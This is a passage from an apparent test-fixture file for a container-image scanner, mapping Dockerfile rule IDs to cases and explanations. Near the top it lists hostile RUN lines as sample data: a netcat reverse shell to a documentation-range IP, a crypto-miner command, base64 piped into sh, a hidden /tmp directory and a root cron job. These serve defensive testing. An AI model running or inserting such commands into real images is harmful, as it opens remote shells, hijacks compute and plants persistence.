      ...['RUN ./x -o stratum+tcp://pool.example:3333', `RUN ${shell}`, 'RUN nc -e /bin/sh 192.0.2.1 4444'],
      ...['RUN echo aGk= | base64 -d | sh', 'RUN mkdir -p /tmp/.X11-unix/...'],
      'RUN echo "* * * * * root /x" > /etc/cron.d/x',
    ],
    'RUN make && make install',
  ),
  own(
    'package-files-left',
    'H-19',
    withFiles({ 'var/cache/apt/archives/x_1_amd64.deb': 'x' }),
    withFiles({ 'var/cache/apt/archives/lock': '' }),
  ),
];

export const answers: readonly Answer[] = [...others, ...nobody];

/** Rows of the list that no rule of an image answers, and why; more of them stand in `idsWithoutRule`. */
export const elsewhere: Readonly<Record<string, string>> = {
  'trace (container)': 'It is asked of a running container and of its host, not of an image.',
  efficiency: 'The report has the same measure as `efficiency`; copies that chmod makes are told.',
  SCxxxx: 'ShellCheck is not run; what matters to an image of its rules is asked of commands by rules of our own.',
  'H-01': 'A secret that a later layer hides is told by the check `secrets` with both layers; its own tests have it.',
  'H-06':
    'Every finding says whether it comes from the base image, as far as that is known; it is no finding of its own.',
  'H-09': 'An imported image is told as `history-blind`; see the tests of what is undecided.',
  'H-17': 'Compilers that packages bring are told as `build-tools-left`; its own tests have packages.',
  'H-20': 'Copies that chmod makes are told as `files-copied-by-chmod` from a megabyte on; its own tests have them.',
};
